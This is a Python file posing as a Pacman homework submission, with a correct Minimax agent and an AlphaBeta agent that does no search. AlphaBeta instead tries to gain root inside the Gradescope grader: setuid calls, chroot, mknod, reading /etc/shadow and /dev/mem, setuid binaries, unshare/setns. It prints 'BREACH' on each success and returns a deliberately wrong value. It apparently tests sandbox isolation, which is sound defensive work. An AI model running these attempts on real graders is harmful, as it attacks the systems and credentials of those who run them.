"""Tries to become root: by system calls, by programs with the setuid bit, by leaving its root folder.
"""

import ctypes
import os
import subprocess

from pacman import Decision, SearchAgent


class Minimax(SearchAgent):
    """Honest and right."""

    def search(self, state):
        plies = self.depth * state.num_agents
        values = {a: self.value(state.successor(0, a), 1 % state.num_agents, plies - 1) for a in state.legal_actions(0)}
        best = max(values, key=values.get)
        return Decision(best, values[best])

    def value(self, state, agent, plies):
        if plies == 0 or state.is_terminal:
            return self.evaluate(state)
        after = (agent + 1) % state.num_agents
        values = [self.value(state.successor(agent, a), after, plies - 1) for a in state.legal_actions(agent)]
        return max(values) if self.role(state, agent) == "max" else min(values)


BOX = "/autograder"  # where Gradescope has the grader, the submission and the results

PROGRAMS = ("su", "sudo", "mount", "newgrp", "passwd", "pkexec", "chsh", "gpasswd", "bwrap")


def tries():
    """Yields ways to become root, each with a name."""
    for name in ("setuid", "seteuid", "setgid", "setegid"):
        yield name, lambda name=name: getattr(os, name)(0)
    yield "setresuid", lambda: os.setresuid(0, 0, 0)
    yield "setgroups", lambda: os.setgroups([0])
    yield "chroot", lambda: os.chroot("/tmp")
    yield "mknod", lambda: os.mknod("/tmp/disk", 0o060666, os.makedev(8, 0))
    yield "shadow", lambda: open("/etc/shadow").read()
    yield "the machine's root", lambda: os.listdir("/proc/1/root/root")
    yield "memory", lambda: open("/dev/mem", "rb").read(1)
    for program in PROGRAMS:
        for folder in ("/usr/bin", "/bin", "/usr/sbin"):
            path = f"{folder}/{program}"
            yield path, lambda path=path: subprocess.run([path, "--help"], timeout=1, capture_output=True)


class AlphaBeta(SearchAgent):
    def search(self, state):
        for name, attempt in tries():
            try:
                attempt()
                print("BREACH:", name)
            except (OSError, subprocess.SubprocessError, ValueError):
                continue
        library = ctypes.CDLL(None, use_errno=True)
        for name, arguments in (("unshare", (0x10000000,)), ("setfsuid", (0,)), ("setns", (0, 0))):
            if getattr(library, name)(*arguments) == 0 and name != "setfsuid":
                print("BREACH:", name)
        if hasattr(os, "getuid") and 0 in (os.getuid(), os.geteuid(), os.getgid(), os.getegid(), *os.getgroups()):
            print("BREACH: it is root")
        return Decision(state.legal_actions(0)[0], 98765.25)  # a guess that is never right
